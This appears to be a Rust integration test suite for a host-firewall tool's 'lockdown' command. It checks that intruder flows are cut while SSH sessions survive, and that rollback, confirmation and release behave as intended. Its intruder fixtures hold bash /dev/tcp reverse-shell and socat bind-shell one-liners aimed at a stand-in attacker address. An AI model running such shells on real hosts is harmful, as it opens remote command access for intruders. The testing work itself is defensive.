//! `guard lockdown` on a host with an intruder in it, over a real OpenSSH session: what is cut, what lives, and every way
//! back. The witness stands outside.

use std::{
    fs,
    io::Read,
    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
    path::Path,
    process::Command,
    sync::mpsc,
    thread,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use guard_tests::{
    frame::{Packet, TCP, UDP},
    guard::{Guard, binary},
    keystrokes::Keystrokes,
    new_world,
    process::{Process, run},
    servers::Sshd,
    skip::skip,
    witness::{Witness, packet_socket},
    world::World,
};
use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};
use serde_json::Value;

const LIMIT: Duration = Duration::from_secs(60);
/// A key's echo comes within this, whatever happens to the host; beyond what the machine itself makes keys wait.
const PAUSE: Duration = Duration::from_millis(200);
/// Within this of the flip an intruder's flow is silent.
const CUT: Duration = Duration::from_millis(100);

/// `guard NAME …` as a line for the far shell.
fn line(guard: &Guard, name: &str, more: &str) -> String {
    let at = format!("--instance {} --state-dir {}", guard.instance(), guard.state_dir().display());
    format!("NO_COLOR=1 {} {name} {at} {more}", binary().unwrap().display())
}

fn over_ssh(sshd: &Sshd, world: &World, line: &str) -> Command {
    let mut command = sshd.client(&world.responder, world.server.v4.into());
    command.env("LC_ALL", "C").arg(line);
    command
}

fn tell(sshd: &Sshd, world: &World, line: &str) -> (i32, String) {
    let ended = run(&mut over_ssh(sshd, world, line), LIMIT).unwrap();
    (ended.code().unwrap_or(-1), ended.stdout + &ended.stderr)
}

/// A lockdown that waits for its confirmation, and what it said when the host was contained.
fn lock_down(sshd: &Sshd, world: &World, guard: &Guard, more: &str) -> (Process, Value) {
    let evidence = world.dir().join("evidence");
    let more = format!("--yes --json --cgroup {} --evidence {} {more}", world.cgroup().display(), evidence.display());
    let mut command = over_ssh(sshd, world, &line(guard, "lockdown", &more));
    let mut process = Process::spawn(&mut command).unwrap();
    let contained = process.wait_line(LIMIT, |line| line.contains("\"event\":\"contained\"")).unwrap();
    (process, serde_json::from_str(&contained).unwrap())
}

fn timeline(guard: &Guard) -> Vec<Value> {
    let text = fs::read_to_string(guard.state_dir().join("timeline.jsonl")).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// What an intruder has here: each talks, or waits to be talked to.
struct Implants {
    reverse: Process,
    reverse_stream: TcpStream,
    udp: Process,
    bind: Process,
    bind_stream: TcpStream,
    container: Process,
    container_stream: TcpStream,
    /// The same over IPv6 but for the container: its flow, as `explain` reads it, and its process.
    six: Vec<(String, Process)>,
    six_streams: Vec<TcpStream>,
    _udp_listeners: [UdpSocket; 2],
    _namespace: guard_tests::world::Namespace,
}

impl Implants {
    fn start(world: &World) -> Self {
        let beats = "while :; do echo beat; sleep 0.02; done";
        let shell = |place: &guard_tests::world::Inside, script: String| {
            let mut command = place.command("/bin/bash");
            Process::spawn(command.args(["-c", &script])).unwrap()
        };
        let listen = |port: u16| world.intruder.run(|| TcpListener::bind((world.intruder.v4, port))).unwrap();
        let (reverse_at, container_at) = (listen(4444), listen(4445));
        let udp_listener = world.intruder.run(|| UdpSocket::bind((world.intruder.v4, 5353))).unwrap();
        let reverse = shell(&world.server, format!("exec 3<>/dev/tcp/203.0.113.9/4444; ({beats}) >&3"));
        let udp = shell(&world.server, format!("exec 3<>/dev/udp/203.0.113.9/5353; ({beats}) >&3"));
        let mut socat = world.server.command("socat");
        let script = world.dir().join("bind.sh");
        fs::write(&script, format!("{beats}\n")).unwrap();
        let served = format!("EXEC:/bin/bash {}", script.display());
        let bind = Process::spawn(socat.args(["TCP-LISTEN:9001,reuseaddr,fork", &served])).unwrap();

        let far = world.intruder.v6;
        let six_at = world.intruder.run(|| TcpListener::bind((far, 4446))).unwrap();
        let six_udp = world.intruder.run(|| UdpSocket::bind((far, 5354))).unwrap();
        let reverse_six = shell(&world.server, format!("exec 3<>/dev/tcp/{far}/4446; ({beats}) >&3"));
        let udp_six = shell(&world.server, format!("exec 3<>/dev/udp/{far}/5354; ({beats}) >&3"));
        let mut socat = world.server.command("socat");
        let bind_six = Process::spawn(socat.args(["TCP6-LISTEN:9003,reuseaddr,fork", &served])).unwrap();

        // A container: a veth pair, masqueraded.
        let namespace = world.namespace("container").unwrap();
        world.server.sysctl("ipv4/ip_forward", "1").unwrap();
        world
            .server
            .ip(&format!(
                "link add pod0 type veth peer name eth0 netns {}\naddress add 10.9.0.1/24 dev pod0\nlink set pod0 up\n",
                namespace.name()
            ))
            .unwrap();
        namespace.ip("address add 10.9.0.2/24 dev eth0\nlink set eth0 up\nroute add default via 10.9.0.1\n").unwrap();
        let mut nft = world.operator.command("nft");
        nft.arg(
            "add table ip nat; add chain ip nat out { type nat hook postrouting priority 100; };
             add rule ip nat out oifname eth0 masquerade",
        );
        let set = run(&mut nft, LIMIT).unwrap();
        assert!(set.good(), "{}", set.text());
        let inside = namespace.in_cgroup(world.cgroup()).unwrap();
        let container = shell(&inside, format!("exec 3<>/dev/tcp/203.0.113.9/4445; ({beats}) >&3"));

        let accept = |listener: &TcpListener| listener.accept().unwrap().0;
        let deadline = Instant::now() + LIMIT;
        let comes_in = |to: SocketAddr| loop {
            match world.intruder.run(|| TcpStream::connect_timeout(&to, Duration::from_secs(1))) {
                Ok(stream) => break stream,
                Err(error) if Instant::now() > deadline => panic!("the bind shell at {to}: {error}"),
                Err(_) => thread::sleep(Duration::from_millis(20)),
            }
        };
        let bind_stream = comes_in((world.server.v4, 9001).into());
        let six_streams = vec![accept(&six_at), comes_in((world.server.v6, 9003).into())];
        let implants = Self {
            reverse_stream: accept(&reverse_at),
            container_stream: accept(&container_at),
            reverse,
            udp,
            bind,
            bind_stream,
            container,
            six: vec![
                (format!("out tcp [{far}]:4446"), reverse_six),
                (format!("out udp [{far}]:5354"), udp_six),
                (format!("in tcp [{far}] -> 9003"), bind_six),
            ],
            six_streams,
            _udp_listeners: [udp_listener, six_udp],
            _namespace: namespace,
        };
        let four = [&implants.reverse_stream, &implants.bind_stream, &implants.container_stream];
        for stream in four.into_iter().chain(&implants.six_streams) {
            stream.set_read_timeout(Some(LIMIT)).unwrap();
            let mut stream = stream;
            stream.read_exact(&mut [0; 5]).unwrap();
        }
        implants
    }

    /// Their flows, as `explain` reads them, with the process that each belongs to.
    fn flows(&self) -> Vec<(&str, u32)> {
        let four = [
            ("out tcp 203.0.113.9:4444", self.reverse.pid()),
            ("out udp 203.0.113.9:5353", self.udp.pid()),
            ("in tcp 203.0.113.9 -> 9001", self.bind.pid()),
            ("out tcp 203.0.113.9:4445", self.container.pid()),
        ];
        four.into_iter().chain(self.six.iter().map(|(flow, process)| (flow.as_str(), process.pid()))).collect()
    }
}

/// What only an intruder says.
fn intruders(packet: &Packet) -> bool {
    let ports = [packet.source_port, packet.destination_port];
    matches!(packet.protocol, TCP | UDP)
        && ports.iter().any(|port| [4444, 4445, 4446, 5353, 5354, 9001, 9003].contains(port))
}

/// As many programs in a row as a session over ssh has, and no network: what a busy machine makes keys wait by itself.
fn on_this_machine() -> Command {
    let mut command = Command::new("sh");
    command.args(["-c", "cat | cat | cat | cat"]);
    command
}

/// The daemon's process.
fn end(pid: &Value, signal: Signal) {
    kill(Pid::from_raw(i32::try_from(pid.as_u64().unwrap()).unwrap()), signal).unwrap();
}

#[test]
fn the_session_lives_through_all_of_it_and_the_intruder_is_cut() {
    let Some(world) = new_world("netns_lockdown session") else { return };
    if !Path::new("/usr/bin/socat").exists() {
        return skip("netns_lockdown session", "socat is not installed");
    }
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let mut guard =
        Guard::prepare(&world, "version: 1\nname: before\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
    let implants = Implants::start(&world);
    let keys = Keystrokes::start(&mut over_ssh(&sshd, &world, "cat")).unwrap();
    // A colleague over IPv6, whose range is named.
    let mut six = sshd.client(&world.responder, world.server.v6.into());
    let keys_six = Keystrokes::start(six.env("LC_ALL", "C").arg("cat")).unwrap();
    let bare = Keystrokes::start(&mut on_this_machine()).unwrap();
    let magic = world.server.run(|| packet_socket(world.server.interface_index("eth0"))).unwrap();
    let hears_magic = || {
        let mut buffer = [0_u8; 2048];
        while nix::sys::socket::recv(
            std::os::fd::AsRawFd::as_raw_fd(&magic),
            &mut buffer,
            nix::sys::socket::MsgFlags::MSG_DONTWAIT,
        )
        .is_ok()
        {}
        world.intruder.run(|| {
            let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.send_to(b"magic-order", (world.server.v4, 33_333)).unwrap();
        });
        let deadline = Instant::now() + Duration::from_millis(500);
        while Instant::now() < deadline {
            let got = nix::sys::socket::recv(
                std::os::fd::AsRawFd::as_raw_fd(&magic),
                &mut buffer,
                nix::sys::socket::MsgFlags::MSG_DONTWAIT,
            );
            if got.is_ok_and(|length| buffer[..length].windows(11).any(|part| part == b"magic-order")) {
                return true;
            }
            thread::sleep(Duration::from_millis(1));
        }
        false
    };
    assert!(hears_magic(), "a packet socket hears everything without guard");
    // A policy of before, so that there is something to restore.
    guard.run(&[]).unwrap();
    let witness = Witness::start(&world.router, World::WIRE).unwrap();
    let (lockdown, contained) = {
        let six = world.responder.v6;
        lock_down(&sshd, &world, &guard, &format!("--allow-from 192.0.2.20 --allow-from {six} --confirm-within 5m"))
    };
    let at = Instant::now();
    assert!(contained["proof"]["failed"].as_array().unwrap().is_empty(), "{contained:#}");
    assert!(contained["would_cut"].as_u64().unwrap() >= 7, "{contained:#}");
    eprintln!("contained after {} ms", contained["contained_ms"]);

    // They were loud before, and are silent since: what is on its way when the flip comes, has left.
    thread::sleep(CUT);
    assert!(witness.count(intruders) > 0, "the witness sees them");
    witness.forget();
    thread::sleep(Duration::from_secs(1));
    assert_eq!(witness.count(intruders), 0, "cut");
    assert_eq!(witness.lost().unwrap(), 0);
    assert!(!hears_magic(), "the shield");
    assert!(at.elapsed() < LIMIT);

    // Status says it, and that nobody has confirmed.
    let status = guard.status().unwrap();
    assert_eq!((&status["enforcing"], &status["policy"]), (&true.into(), &"lockdown".into()), "{status:#}");
    assert!(status["lockdown"]["confirmed"].is_null() && !status["deadline"].is_null(), "{status:#}");
    let sections = fs::read_to_string(world.dir().join("evidence/manifest.sha256")).unwrap();
    assert!(sections.lines().count() > 15, "{sections}");

    // Nobody has logged in since: not confirmed by whoever sits here already.
    let refused = guard.ask("confirm", &[]).unwrap();
    assert_eq!(refused.code(), Some(1), "{}", refused.text());
    assert!(refused.stdout.contains("nobody has logged in since"), "{}", refused.text());
    let (code, said) = tell(&sshd, &world, &line(&guard, "confirm", "--as kim"));
    assert_eq!(code, 0, "{said}");
    assert!(said.contains("sockets of what is cut were ended"), "{said}");
    let ended = lockdown.finish(LIMIT).unwrap();
    assert!(ended.good() && ended.stdout.contains("\"event\":\"confirmed\""), "{}", ended.text());

    // Each is in the timeline with its process, and none has a socket any more.
    let entries = timeline(&guard);
    for (flow, pid) in implants.flows() {
        let found = entries.iter().find(|entry| {
            let who = &entry["details"]["who"];
            let parents = who["parents"].to_string();
            entry["details"]["flow"] == flow && (who["pid"] == pid || parents.contains(&format!("\"pid\":{pid}")))
        });
        let found = found.unwrap_or_else(|| panic!("{flow} of {pid}: {entries:#?}"));
        assert!(found["details"]["error"].is_null(), "{found:#}");
    }
    let left = world.server.run(guard::host::sock_diag::sockets).unwrap();
    let far = [false, true].map(|ipv6| world.intruder.address(ipv6));
    // A UDP socket of IPv6 that was cut off keeps the address, and has no port.
    let theirs = left.all.iter().filter(|socket| far.contains(&socket.remote.ip()) && socket.remote.port() != 0);
    assert_eq!(theirs.count(), 0, "{:?}", left.all);
    assert_eq!(witness.count(intruders), 0, "not even a reset leaves");

    // An exception for a while leaves it a lockdown.
    guard.tell("allow", &["in tcp 192.0.2.20 -> 8080", "--for", "10m"]).unwrap();
    let status = guard.status().unwrap();
    assert!(status["lockdown"]["confirmed"]["by"] == "kim" && status["enforcing"] == true, "{status:#}");

    // In lockdown: reload is for afterwards, the daemon may die, restore comes back unless confirmed.
    let kept = guard.ask("reload", &[&guard.policy().display().to_string()]).unwrap();
    assert!(kept.good() && kept.stdout.contains("a lockdown holds"), "{}", kept.text());
    guard.kill().unwrap();
    assert_eq!(guard.status().unwrap()["enforcing"], true);
    let (code, said) = tell(&sshd, &world, &line(&guard, "record", "--detach"));
    assert_eq!(code, 0, "{said}");
    let status = guard.status().unwrap();
    assert_eq!((&status["policy"], &status["lockdown"]["confirmed"]["by"]), (&"lockdown".into(), &"kim".into()));
    end(&status["daemon"]["pid"], Signal::SIGHUP);
    let restored = guard.tell("restore", &["--confirm-within", "6s"]).unwrap();
    assert_eq!(guard.status().unwrap()["policy"], "before", "{}", restored.text());
    let back = guard.status_until(LIMIT, |status| status["deadline"].is_null()).unwrap();
    assert_eq!(back["policy"], "lockdown", "not confirmed: {back:#}");
    assert!(back["enforcing"] == true && !back["lockdown"].is_null(), "{back:#}");
    guard.tell("restore", &[]).unwrap();
    guard.tell("confirm", &[]).unwrap();
    let status = guard.status().unwrap();
    assert!(status["policy"] == "before" && status["lockdown"].is_null(), "{status:#}");
    guard.release().unwrap();

    let both = [("IPv4", keys.finish()), ("IPv6", keys_six.finish())];
    let bare = bare.finish();
    for (family, typed) in both {
        eprintln!("{family}: {typed:?}");
        assert_eq!(typed.keys, typed.echoed, "no key is lost over {family}");
        assert!(typed.slowest < PAUSE + bare.slowest, "{family}: {typed:?}, beside {bare:?}");
    }
}

/// The deadline is the kernel's: whatever happened to the daemon, and to the command that counts down.
fn rolls_back(test: &str, signal: Signal) {
    let Some(world) = new_world(test) else { return };
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let guard = Guard::prepare(&world, "version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
    let keys = Keystrokes::start(&mut over_ssh(&sshd, &world, "cat")).unwrap();
    let bare = Keystrokes::start(&mut on_this_machine()).unwrap();
    // What is closed by the lockdown: a datagram every 2 ms.
    let (heard, hears) = mpsc::channel();
    let listener = world.server.run(|| UdpSocket::bind((world.server.v4, 7000))).unwrap();
    listener.set_read_timeout(Some(LIMIT)).unwrap();
    let reader = thread::spawn(move || {
        let mut byte = [0; 16];
        while listener.recv(&mut byte).is_ok() {
            if heard.send(SystemTime::now()).is_err() {
                break;
            }
        }
    });
    let talker = world.client.run(|| UdpSocket::bind("0.0.0.0:0")).unwrap();
    talker.connect((world.server.v4, 7000)).unwrap();
    // Beside it one that nothing closes: what a busy machine makes of 2 ms.
    let bare_listener = world.client.run(|| UdpSocket::bind((world.client.v4, 7001))).unwrap();
    bare_listener.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let bare_talker = world.client.run(|| UdpSocket::bind("0.0.0.0:0")).unwrap();
    bare_talker.connect((world.client.v4, 7001)).unwrap();
    let bare_gap = thread::spawn(move || {
        let (mut byte, mut longest, mut last) = ([0; 16], Duration::ZERO, None);
        while bare_listener.recv(&mut byte).is_ok() {
            let now = Instant::now();
            longest = longest.max(last.map_or(Duration::ZERO, |last| now - last));
            last = Some(now);
        }
        longest
    });
    let (stop, stopped) = mpsc::channel::<()>();
    let talks = thread::spawn(move || {
        while stopped.try_recv() == Err(mpsc::TryRecvError::Empty) {
            // Nobody may listen yet.
            let _ = talker.send(b"beat");
            let _ = bare_talker.send(b"beat");
            thread::sleep(Duration::from_millis(2));
        }
    });
    let (mut lockdown, contained) = lock_down(&sshd, &world, &guard, "--confirm-within 6s --snapshot-within 0");
    end(&contained["recording"], signal);
    // The command that counts down goes with its session.
    lockdown.kill().unwrap();
    while hears.try_recv().is_ok() {}
    let first = hears.recv_timeout(LIMIT).expect("it opens again");
    let opened = first.duration_since(UNIX_EPOCH).unwrap().as_millis() as i64;
    let off = opened - contained["until_unix_ms"].as_i64().unwrap();
    drop(stop);
    talks.join().unwrap();
    // It ends two seconds after the last.
    let gap = bare_gap.join().unwrap().as_millis() as i64;
    eprintln!("opened {off} ms after the deadline, beside {gap} ms");
    assert!((-10..100 + gap).contains(&off), "{off} ms from the deadline, beside {gap} ms");
    if signal == Signal::SIGSTOP {
        end(&contained["recording"], Signal::SIGCONT);
    }
    let status = guard.status().unwrap();
    assert!(status["lockdown"].is_null() && status["mode"] == "tracking", "{status:#}");
    let typed = keys.finish();
    assert_eq!(typed.keys, typed.echoed, "no key is lost");
    let bare = bare.finish();
    assert!(typed.slowest < PAUSE + bare.slowest, "{typed:?}, beside {bare:?}");
    guard.release().unwrap();
    drop(hears);
    drop(reader);
}

#[test]
fn it_rolls_back_with_the_daemon_stopped() {
    rolls_back("netns_lockdown stopped", Signal::SIGSTOP);
}

#[test]
fn it_rolls_back_with_the_daemon_killed() {
    rolls_back("netns_lockdown killed", Signal::SIGKILL);
}

#[test]
fn release_asks_for_the_hosts_name_and_rollback_does_not() {
    let Some(world) = new_world("netns_lockdown release") else { return };
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let guard = Guard::prepare(&world, "version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
    let (lockdown, _) = lock_down(&sshd, &world, &guard, "--snapshot-within 0 --confirm-within 5m");
    let (code, said) = tell(&sshd, &world, &line(&guard, "confirm", ""));
    assert_eq!(code, 1, "{said}");
    assert!(said.contains("one way in only") && said.contains("--one-way-in"), "{said}");
    let restore = guard.ask("restore", &[]).unwrap();
    assert!(restore.code() == Some(3) && restore.stderr.contains("guard rollback"), "{}", restore.text());
    let ended = guard.tell("rollback", &[]).unwrap();
    assert!(ended.stdout.contains("undone"), "{}", ended.text());
    let ended = lockdown.finish(LIMIT).unwrap();
    assert!(ended.code() == Some(1) && ended.stdout.contains("rolled_back"), "{}", ended.text());

    // Once more, and this time it stays without being asked about.
    fs::remove_dir_all(world.dir().join("evidence")).unwrap();
    let mut command = guard.command("lockdown").unwrap();
    let more = ["--yes", "--allow-from", "198.51.100.7", "--evidence", "none", "--confirm-within", "none", "--cgroup"];
    let ended = run(command.args(more).arg(world.cgroup()), LIMIT).unwrap();
    assert!(ended.good() && ended.stdout.contains("CONTAINED, and stays so"), "{}", ended.text());
    let status = guard.ask("status", &[]).unwrap();
    assert!(status.stdout.starts_with("LOCKED DOWN, confirmed "), "{}", status.text());
    for arguments in [&[][..], &["--host", "another"]] {
        let refused = guard.ask("release", arguments).unwrap();
        assert!(refused.code() == Some(1) && refused.stdout.contains("nothing was changed"), "{}", refused.text());
    }
    let restore = guard.ask("restore", &[]).unwrap();
    assert!(restore.code() == Some(3) && restore.stderr.contains("nothing was in force before"), "{}", restore.text());
    assert_eq!(guard.status().unwrap()["enforcing"], true);
    let host = nix::unistd::gethostname().unwrap().to_string_lossy().into_owned();
    guard.tell("release", &["--host", &host]).unwrap();
    assert_eq!(guard.status().unwrap()["mode"], "none");
}

/// Nobody confirms, and the way in opens to whoever comes; nothing else does. What was ended at once stays so.
#[test]
fn on_timeout_the_way_in_alone_opens() {
    let Some(world) = new_world("netns_lockdown ssh_only") else { return };
    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
    let guard = Guard::prepare(&world, "version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
    let listener = world.intruder.run(|| TcpListener::bind((world.intruder.v4, 4444))).unwrap();
    let mut shell = world.server.command("/bin/bash");
    let mut shell = Process::spawn(shell.args(["-c", "exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3"])).unwrap();
    let _stream = listener.accept().unwrap();
    // A policy of the person's own has to drop, too.
    guard.write_policy("version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
    let mut audits = guard.command("lockdown").unwrap();
    audits.args(["--yes", "--console", "--policy"]).arg(guard.policy());
    let refused = run(&mut audits, LIMIT).unwrap();
    assert!(refused.code() == Some(3) && refused.stderr.contains("only audits"), "{}", refused.text());

    let more = "--snapshot-within 0 --confirm-within 8s --on-timeout ssh-only --destroy-now";
    let (lockdown, contained) = lock_down(&sshd, &world, &guard, more);
    let ended = contained["ended"].as_array().unwrap();
    assert_eq!(ended.len(), 1, "{contained:#}");
    assert_eq!(ended[0]["who"]["pid"], shell.pid(), "{contained:#}");
    let gone = Instant::now() + Duration::from_secs(5);
    while shell.ended().unwrap().is_none() {
        assert!(Instant::now() < gone, "the shell's socket is gone, so it is over");
        thread::sleep(Duration::from_millis(10));
    }
    let outsider = || {
        let mut command = sshd.client(&world.intruder, world.server.v4.into());
        run(command.args(["-o", "ConnectTimeout=1", "true"]), LIMIT).unwrap().good()
    };
    assert!(!outsider(), "only the way in's own place");
    let ended = lockdown.finish(LIMIT).unwrap();
    assert_eq!(ended.code(), Some(1), "{}", ended.text());
    assert!(outsider(), "from anywhere");
    let out = guard_tests::flows::Flow::new("out tcp intruder 4444", false);
    assert!(!out.passes(&world, false), "and nothing else");
    let status = guard.status().unwrap();
    assert!(status["policy"] == "lockdown-ssh-only" && status["enforcing"] == true, "{status:#}");
    let spoken = guard.ask("status", &[]).unwrap();
    let first = spoken.stdout.lines().next().unwrap();
    assert!(first.ends_with("DNS closed    the way in open to any source"), "{first}");
    // It is a lockdown that ends like any other.
    guard.write_policy("version: 1\nname: after\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
    guard.tell("reload", &[&guard.policy().display().to_string()]).unwrap();
    guard.tell("restore", &["--confirm-within", "5m"]).unwrap();
    guard.tell("confirm", &[]).unwrap();
    let status = guard.status().unwrap();
    assert!(status["policy"] == "after" && status["lockdown"].is_null(), "{status:#}");
}
